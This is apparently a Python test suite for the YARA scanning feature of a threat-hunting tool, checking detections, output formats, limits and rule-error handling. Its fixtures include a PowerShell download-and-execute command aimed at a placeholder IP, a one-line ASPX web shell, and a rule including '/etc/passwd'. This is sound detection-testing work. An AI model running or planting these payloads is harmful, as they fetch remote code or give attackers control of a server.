#!/usr/bin/env python3
"""YARA rules from the command line: over files, members of archives and fields of events, all outputs, errors, limits, Ctrl-C. Usage: yara_test.py TOCSIN"""
import csv
import hashlib
import io
import json
import pathlib
import signal
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile

tocsin = str(pathlib.Path(sys.argv[1]).resolve())
failed = 0


def check(name, good, why=""):
    global failed
    print(f"ok {name}" if good else f"not ok {name}: {why}")
    failed += 0 if good else 1


def run(*arguments):
    return subprocess.run([tocsin, *map(str, arguments)], capture_output=True, text=True, timeout=300)


def lines(path):
    return [json.loads(line) for line in path.read_text().splitlines()]


RULES = r"""
import "hash"
rule script_download : T1105 {
  meta: description = "Script that loads more" score = 75 author = "tests" reference = "https://example.org/a"
  strings: $a = "DownloadString" nocase ascii wide
  condition: $a
}
rule shell_page { meta: severity = "critical" id = "11111111-2222-4333-8444-555555555555"
  strings: $a = "eval(Request" $b = "JScript" condition: any of them and extension == ".aspx" and filename == "x.aspx" }
rule by_hash { condition: hash.md5(0, filesize) == "5d41402abc4b2a76b9719d911017c592" }
rule zip_with_macro { strings: $a = "word/vbaProject.bin" condition: uint32be(0) == 0x504B0304 and $a }
rule escapes { strings: $a = { 1B 5B 33 31 6D 0A FF } condition: $a }
"""
SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"

with tempfile.TemporaryDirectory() as temporary:
    folder = pathlib.Path(temporary)
    sigma = folder / "none.yml"
    sigma.write_text("title: none\nid: 6f0a4a0e-5f6f-4ad5-8c80-0a6f3d4e2b11\nlogsource:\n  product: windows\ndetection:\n  a:\n    b: c\n  condition: a\n")
    rules = folder / "rules.yar"
    rules.write_text(RULES)
    evidence = folder / "evidence"
    evidence.mkdir()
    event = {"@timestamp": "2024-05-01T10:00:00Z", "EventID": 4104, "Channel": "Microsoft-Windows-PowerShell/Operational", "Computer": "ws1", "ScriptBlockText": SCRIPT, "Note": SCRIPT}
    (evidence / "log.jsonl").write_text(json.dumps(event) + "\n" + json.dumps({**event, "ScriptBlockText": "Get-Date", "Note": "x", "CommandLine": "powershell downloadstring"}) + "\n")
    (evidence / "x.aspx").write_text('<%@ Page Language="JScript"%><%eval(Request["a"])%>')
    (evidence / "unknown.bin").write_bytes(b"\0\1\2\3" * 500 + SCRIPT.encode("utf-16-le") + b"\x1b[31m\n\xff")
    (evidence / "hello.dat").write_bytes(b"hello")
    with zipfile.ZipFile(evidence / "logs.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("web/x.aspx", (evidence / "x.aspx").read_text())
    with zipfile.ZipFile(evidence / "letter.docm", "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/vbaProject.bin", "x")
    with tarfile.open(evidence / "a.tar.gz", "w:gz") as archive:
        info = tarfile.TarInfo("in/hello")
        info.size = 5
        archive.addfile(info, io.BytesIO(b"hello"))
    (evidence / "cabinet.cab").write_bytes(b"MSCF" + b"\0" * 60 + b"DownloadString")
    out = folder / "x.jsonl"

    def hunt(*arguments):
        out.unlink(missing_ok=True)
        result = run("hunt", "--quiet", "--rules", sigma, "--pack", "exchange-2021", "--out", out, *arguments)
        rows = lines(out) if out.exists() else []
        return result, [row for row in rows if row["type"] == "detection"], rows

    result, found, rows = hunt("--yara", rules, evidence)
    covered = {(row["source"], row["format"]): row for row in rows if row["type"] == "coverage"}
    summary = rows[-1]["yara"]
    seen = sorted((d["rule"]["title"], d["event"]["source"], d["event"]["format"]) for d in found)
    check("every_file_member_and_field_is_scanned", seen == [
        ("by_hash", "a.tar.gz!/in/hello", "file"), ("by_hash", "hello.dat", "file"), ("escapes", "unknown.bin", "file"),
        ("script_download", "cabinet.cab", "file"), ("script_download", "log.jsonl", "file"), ("script_download", "log.jsonl", "json-lines"), ("script_download", "log.jsonl", "json-lines"),
        ("script_download", "unknown.bin", "file"), ("shell_page", "logs.zip!/web/x.aspx", "file"), ("shell_page", "x.aspx", "file"), ("zip_with_macro", "letter.docm", "file")], seen)
    check("exit_code_says_found", result.returncode == 1, result)
    fields = [d for d in found if d["event"]["format"] == "json-lines"]
    check("a_field_that_is_not_chosen_is_left_alone", [m["field"] for m in fields[0]["matched"]] == ["ScriptBlockText"], fields)
    check("a_field_hit_says_where", fields[0]["matched"] == [{"field": "ScriptBlockText", "value": "DownloadString", "pattern": "$a", "offset": SCRIPT.index("DownloadString")}], fields[0])
    check("a_field_hit_is_an_event", (fields[1]["event"]["record"], fields[1]["event"]["unit"], fields[1]["event"]["host"], fields[1]["event"]["time"]) == (2, "line", "ws1", "2024-05-01T10:00:00Z"), fields[1])
    page = next(d for d in found if d["event"]["source"] == "x.aspx")
    text = (evidence / "x.aspx").read_bytes()
    check("a_file_hit_says_where", page["matched"] == [{"field": "file", "value": "eval(Request", "pattern": "$a", "offset": text.index(b"eval(")}, {"field": "file", "value": "JScript", "pattern": "$b", "offset": text.index(b"JScript")}], page)
    check("its_record_is_the_first_place", (page["event"]["unit"], page["event"]["record"], page["event"]["offset"]) == ("offset", text.index(b"JScript"), text.index(b"JScript")), page["event"])
    check("a_file_hit_names_the_file", page["fields"] == {"path": "x.aspx", "size": str(len(text)), "sha256": hashlib.sha256(text).hexdigest()}, page["fields"])
    check("the_rule_as_it_describes_itself", page["rule"] == {"id": "11111111-2222-4333-8444-555555555555", "title": "shell_page", "level": "critical", "source": "yara", "tags": []}, page["rule"])
    download = fields[0]["rule"]
    check("score_and_tags", (download["level"], download["tags"]) == ("high", ["attack.t1105"]), download)
    check("an_id_of_its_own_is_stable", download["id"] == hunt("--yara", rules, evidence / "log.jsonl")[1][0]["rule"]["id"] and len(download["id"]) == 36 and download["id"][14] == "5", download)
    binary = next(d for d in found if d["rule"]["title"] == "escapes")
    check("excerpts_are_escaped", binary["matched"][0]["value"] == "\\x1b[31m\\x0a\\xff", binary)
    check("coverage_names_what_was_scanned", all(row.get("yara") == "scanned" for row in covered.values() if "skipped" not in row), covered)
    check("files_without_a_reader_are_covered_as_files", ("unknown.bin", "file") in covered and "skipped" not in covered[("unknown.bin", "file")], covered.keys())
    check("archives_are_covered_as_they_lie_there", {("logs.zip", "file"), ("letter.docm", "file"), ("cabinet.cab", "file")} <= covered.keys(), covered.keys())
    check("summary_counts", (summary["given"], summary["loaded"], summary["rejected"], summary["files_scanned"], summary["values_scanned"], summary["hits"], summary["found"]) == (5, 5, 0, 9, 3, 11, 5), summary)
    check("bytes_are_counted_once", rows[-1]["bytes"] == sum(row["bytes"] for (name, form), row in covered.items() if name not in ("logs.zip", "letter.docm", "cabinet.cab")), rows[-1]["bytes"])

    # The same whatever the number of threads, and without YARA as if it was not there.
    def comparable(rows):
        return [row for row in rows if row["type"] != "summary"]
    one = comparable(hunt("--yara", rules, "--threads", "1", evidence)[2])
    for threads in ("2", "7"):
        check(f"same_with_{threads}_threads", comparable(hunt("--yara", rules, "--threads", threads, evidence)[2]) == one)
    plain, _, plain_rows = hunt(evidence)
    check("without_yara_nothing_is_different", "yara" not in plain_rows[-1] and not any("yara" in row for row in plain_rows) and any(row.get("skipped") for row in plain_rows) and plain.returncode == 0, plain_rows)

    # A value and a file of the same bytes.
    (folder / "value.txt").write_text(SCRIPT)
    as_file = hunt("--yara", rules, folder / "value.txt")[1]
    check("a_field_and_a_file_of_the_same_bytes", [{**m, "field": ""} for m in as_file[0]["matched"]] == [{**m, "field": ""} for m in fields[0]["matched"]] and len(as_file) == 1, as_file)

    # Choices.
    check("files_only", {d["event"]["format"] for d in hunt("--yara", rules, "--no-yara-fields", evidence)[1]} == {"file"})
    only = hunt("--yara", rules, "--no-yara-files", evidence)
    check("fields_only", {d["event"]["format"] for d in only[1]} == {"json-lines"} and only[2][-1]["yara"]["files_scanned"] == 0, only[2][-1])
    check("other_fields", [m["field"] for d in hunt("--yara", rules, "--no-yara-files", "--yara-fields", "note, Nothing", evidence)[1] for m in d["matched"]] == ["Note"])
    check("one_level_for_all", {d["rule"]["level"] for d in hunt("--yara", rules, "--yara-level", "low", evidence)[1]} == {"low"})
    for arguments in (["--no-yara-files", "--no-yara-fields"], ["--yara-max-size", "0"], ["--yara-max-size", "x"], ["--yara-max-size", "9G"], ["--yara-timeout", "0"], ["--yara-level", "evil"]):
        wrong = run("hunt", "--yara", rules, *arguments, evidence)
        check("usage_" + "_".join(arguments).strip("-"), wrong.returncode == 2 and "T001" in wrong.stderr, wrong)
    check("an_option_without_rules", run("hunt", "--yara-max-size", "1M", evidence).returncode == 2)
    check("rules_that_do_not_exist", run("hunt", "--yara", folder / "nope.yar", evidence).returncode == 2)

    # Limits: larger files are said, not scanned; memory stays bounded.
    large = folder / "large"
    large.mkdir()
    (large / "big.bin").write_bytes(b"\0" * 100_000 + b"DownloadString")
    (large / "big.log").write_text("Jan 01 00:00:00 host a: DownloadString\n" * 4_000)
    (large / "small.bin").write_bytes(b"\0\1\2DownloadString")
    result, found, rows = hunt("--yara", rules, "--yara-max-size", "64K", large)
    covered = {row["source"]: row for row in rows if row["type"] == "coverage"}
    check("too_large_is_said", covered["big.log"]["yara"] == "too large" and any("--yara-max-size" in note for note in covered["big.log"]["notes"]) and "too large to be scanned" in covered["big.bin"]["skipped"], covered)
    check("too_large_is_not_scanned", [d["event"]["source"] for d in found] == ["small.bin"] and rows[-1]["yara"]["files_too_large"] == 2, (found, rows[-1]["yara"]))
    check("a_large_log_is_still_read", covered["big.log"]["events"] == 4_000, covered["big.log"])
    many = folder / "many"
    many.mkdir()
    for i in range(20):
        (many / f"{i}.bin").write_bytes(bytes([i, 0, 255]) * 7_000_000)
    result, found, rows = hunt("--yara", rules, "--threads", "4", many)
    check("memory_is_bounded", rows[-1]["yara"]["files_scanned"] == 20 and rows[-1]["peak_rss_bytes"] < 250_000_000, rows[-1])

    # Broken and hostile rules cost themselves.
    bad = folder / "bad"
    bad.mkdir()
    (bad / "index.yar").write_text('include "sub/one.yara"\ninclude "/etc/passwd"\ninclude "../rules.yar"\nrule good { strings: $a = "hello" condition: $a and helper }\nrule broken {\n  condition: nothing }\n')
    (bad / "sub").mkdir()
    (bad / "sub/one.yara").write_text("private rule helper { condition: true }\n")
    (bad / "same.yar").write_text('rule good { condition: filesize == 5 }\nrule slow { strings: $a = "x" condition: $a and filesize == 1 }\n')
    (bad / "readme.txt").write_text("not a rule\n")
    result, found, rows = hunt("--yara", bad, evidence / "hello.dat")
    check("what_is_sound_is_used", [d["rule"]["title"] for d in found] == ["good", "good"] and len({d["rule"]["id"] for d in found}) == 2, found)
    result = run("hunt", "--rules", sigma, "--yara", bad, evidence / "hello.dat")
    check("errors_are_named", all(part in result.stderr for part in ("index.yar:2: T024", "index.yar:3: T024", "index.yar:6: T024: rule broken")), result.stderr)
    check("rejected_rules_stand_in_the_report", any("broken" == one["title"] and one["kind"] == "rejected" for one in rows[-1]["not_evaluated"]), rows[-1]["not_evaluated"])
    checked = run("rules", "check", "--yara", bad)
    check("rules_check", checked.returncode == 1 and checked.stdout.splitlines()[-1] == "5 given, 4 loaded, 1 rejected" and "warning: same.yar:2" in checked.stdout, checked)
    check("rules_check_of_good_ones", run("rules", "check", "--yara", rules).returncode == 0)
    told = json.loads(run("rules", "check", "--yara", bad, "--format", "sarif").stdout)
    check("rules_check_as_sarif", {(one["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], one["locations"][0]["physicalLocation"]["region"]["startLine"]) for one in told["runs"][0]["results"] if one["level"] == "error"} == {("index.yar", 2), ("index.yar", 3), ("index.yar", 6)}, told)
    endless = folder / "endless.yar"
    endless.write_text('rule slow { condition: for all i in (0..2000000000) : (for all j in (0..2000000000) : (uint8(j % 3) < 300)) }\n')
    result, found, rows = hunt("--yara", endless, "--no-yara-fields", "--yara-timeout", "1", evidence / "hello.dat")
    check("a_scan_without_end_is_given_up_and_said", not found and rows[-1]["yara"]["gave_up"] == 1 and any("--yara-timeout" in note for note in rows[0]["notes"]) and rows[0]["yara"] == "gave up", rows)
    for threads in ("1", "2"):
        process = subprocess.Popen([tocsin, "hunt", "--rules", sigma, "--yara", endless, "--threads", threads, "--out", out, evidence], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        time.sleep(1.5)
        begun = time.monotonic()
        process.send_signal(signal.SIGINT)
        process.communicate(timeout=60)
        took = time.monotonic() - begun
        check(f"interrupt_with_{threads}_threads", process.returncode == 3 and took < 1.5 and lines(out)[-1]["interrupted"] is True, (process.returncode, took))

    # Every form.
    forms = [folder / ("y" + suffix) for suffix in (".jsonl", ".json", ".csv", ".html", ".stix.json", ".sarif", ".timesketch.jsonl", ".navigator.json")]
    result = run("hunt", "--rules", sigma, "--yara", rules, *[part for form in forms for part in ("--out", form)], evidence)
    check("terminal", "shell_page" in result.stdout and "eval(Request" in result.stdout and "YARA" in result.stdout and "\x1b[31m" not in result.stdout, result.stdout)
    check("json", sum(1 for d in json.loads(forms[1].read_text())["detections"] if d["rule"]["source"] == "yara") == 11)
    check("csv", sum(row["title"] == "script_download" for row in csv.DictReader(io.StringIO(forms[2].read_text()))) == 5)
    check("html", "shell_page" in forms[3].read_text())
    bundle = json.loads(forms[4].read_text())
    indicators = {one["name"]: one for one in bundle["objects"] if one["type"] == "indicator"}
    check("stix_carries_the_rule", indicators["shell_page"]["pattern_type"] == "yara" and indicators["shell_page"]["pattern"].startswith("rule shell_page") and indicators["by_hash"]["pattern"].startswith('import "hash"\nrule by_hash'), indicators)
    check("stix_sightings", sum(one["type"] == "sighting" for one in bundle["objects"]) >= 5)
    check("sarif", sum(one["ruleId"] == "11111111-2222-4333-8444-555555555555" for one in json.loads(forms[5].read_text())["runs"][0]["results"]) == 2)
    check("timesketch", sum("script_download" in line for line in forms[6].read_text().splitlines()) == 5)
    check("navigator", any(one["techniqueID"] == "T1105" for one in json.loads(forms[7].read_text())["techniques"]))

sys.exit(1 if failed else 0)
